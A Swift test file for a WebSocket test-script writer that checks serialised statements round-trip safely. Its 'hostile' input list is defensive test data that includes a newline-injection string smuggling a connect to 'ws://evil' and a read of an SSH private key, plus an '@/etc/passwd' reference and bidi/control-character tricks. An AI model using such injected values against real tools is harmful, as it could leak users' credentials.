import MessageText
import Testing
import WebSocketProtocol

@testable import TestScript

/// Tests that written statements parse to the original ones.
@Suite struct ScriptWriterTests {
    /// Texts that a malicious server or the author of a recording might choose.
    static let hostile = [
        "x\nconnect ws://evil\n>file /home/me/.ssh/id_ed25519\n#", "\n> a", "\r\n> a", "\r> a", "a\n", "\n", "${HOME}",
        "$${HOME}", "$$${", "$", "${", "a$", "${\u{301}A}", "$\u{301}{A}", " a", "a ", "\ta", "a\t", "  # comment",
        "a  # b",
        "\"a  # b\"", "\"a  # b", "a\t#", "#", "# a", "== name", "@bob > a", "/ pong", "\0", "\u{1B}[2J", "\u{9B}2J",
        "\u{7F}", "\u{85}", "\u{2028}> a", "\u{2029}> a", "\u{202E}abc", "\u{2066}a", "\u{200B}", "a\u{200D}b",
        "\u{FEFF}a",
        "\u{AD}", "\u{A0}", "\u{3000}a", "\u{301}", " \u{301}", "\u{301}  # b", "e\u{301}", "é", "\\", "\\n", "\"",
        "\"\"",
        "\"\u{301}", "'", "👩‍🚀", "❤️", "\u{E0041}", "\u{10FFFF}", "\u{FFFE}", "",
        "a" + String(repeating: "\u{301}", count: 50),
        "~(a", "{\"a\":1}", "{", "[1]", "*", "<json {}", "string \"a\"", "1000", "300ms", "json", "-", "@/etc/passwd",
    ]

    /// Parses a line after a `connect`; returns nil if it is invalid.
    private func read(_ line: String) -> [Statement]? {
        ScriptParser.tests(in: "connect ws://h/\n" + line + "\n> end\n", side: .client).map { tests in
            tests.flatMap(\.statements)
        }
    }

    private func steps(with text: String) -> [Step] {
        let literal = Template(literal: text)
        let templates = [literal] + [try? Template(text)].compactMap { $0 }
        return templates.flatMap { template -> [Step] in
            [
                .send(.text(template)), .expect(.exact(.text(template))), .send(.hex(template)),
                .send(.file(template, asBinary: true)), .expect(.exact(.file(template, asBinary: false))),
                .expect(.json(template)), .expect(.regex(template)), .skip(to: .exact(.text(template))),
                .skip(to: .regex(template)), .skip(to: .json(template)), .ping(template), .expectPing(template),
                .close(.normalClosure, reason: template), .expectClose(CloseCode(rawValue: 4000), reason: template),
                .expectClose(nil, reason: template), .connect(template),
                .expectInAnyOrder(.exact(.text(template))), .expectNever(.regex(template)),
                .answer(.exact(.text(template)), .text(template)), .answer(.regex(template), .hex(template)),
                .answer(.json(template), .bytes(template)), .answer(.exact(.base64(template)), .text(template)),
                .ignore(.bytes(template)), .ignore(.binaryRegex(template)), .endRules(.exact(.text(template))),
                .every(.seconds(1), .text(template)), .set("a", .text(template)),
                .send(.json(template, isPretty: false)),
                .send(.json(template, isPretty: true)), .send(.bytes(template)), .send(.base64(template)),
                .expect(.bytes(template)), .expect(.binaryRegex(template)), .handshake(.body(.exact(.text(template)))),
                .handshake(.header(name: "X", .regex(template))), .handshake(.open(subprotocol: template)),
                .handshake(.subprotocol(template)),
            ] + ConnectionOption.allCases.map { .option($0, template) }
        }
    }

    @Test("A written line parses to the original statement", arguments: hostile)
    func roundTrip(text: String) throws {
        for step in steps(with: text) {
            for connection in ["", "bob", text] {
                guard let line = try? ScriptWriter.line(step, on: connection) else { continue }
                let hidden = line.unicodeScalars.filter(VisibleText.mustBeVisible)
                #expect(hidden.isEmpty, "\(line)")
                let statements = try #require(read(line), "\(line)")
                // A `connect` without a name starts another test.
                #expect(statements.count == 3, "\(line)")
                #expect(statements.dropFirst().first?.step == step, "\(line)")
                #expect(statements.dropFirst().first?.connection == connection, "\(line)")
            }
        }
    }

    @Test("Every text message can be written", arguments: hostile)
    func messages(text: String) throws {
        let template = Template(literal: text)
        for step in [Step.send(.text(template)), .expect(.exact(.text(template)))] {
            let line = try ScriptWriter.line(step)
            #expect(read(line)?.dropFirst().first?.step == step, "\(line)")
        }
    }

    @Test("A text without variables is written without variables", arguments: hostile)
    func variables(text: String) throws {
        let template = Template(literal: text)
        #expect(template.variables == [])
        #expect(try Template(template.source) == template)
        let line = try ScriptWriter.line(.send(.text(template)))
        #expect(try #require(read(line)).flatMap(\.step.templates).flatMap(\.variables) == [])
    }

    @Test("Times, close codes and statements without a value are written")
    func others() throws {
        let rows: [(Step, String)] = [
            (.timeout(.milliseconds(300)), "timeout 300ms"), (.wait(.seconds(2)), "wait 2000ms"),
            (.expectSilence(.microseconds(1500)), "<! 0.0015s"), (.expectPong(within: nil), "pong"),
            (.expectPong(within: .seconds(1)), "pong 1000ms"), (.expectClose(nil, reason: nil), "<close"),
            (.close(.normalClosure, reason: Template(literal: "")), "close 1000"),
            (.option(.insecure, nil), "insecure"),
        ]
        for (step, line) in rows { #expect(try ScriptWriter.line(step) == line) }
        let unwritable: [Step] = [
            .close(CloseCode(rawValue: 1005), reason: Template(literal: "")),
            .option(.insecure, Template(literal: "a")),
            .option(.header, nil), .connect(Template(literal: "")), .connect(Template(literal: "ws://h/\n> a")),
            .timeout(.seconds(-1)), .send(.text(Template(literal: String(repeating: "a", count: 5 << 20)))),
        ]
        for step in unwritable {
            #expect(throws: ScriptWriter.Unwritable.self, "\(step)") { try ScriptWriter.line(step) }
        }
    }

    @Test("A comment stays a comment on one line", arguments: hostile)
    func comments(text: String) {
        let line = ScriptWriter.comment(text)
        #expect(read(line)?.count == 2, "\(line)")
        #expect(!line.unicodeScalars.contains(where: VisibleText.mustBeVisible), "\(line)")
    }
}
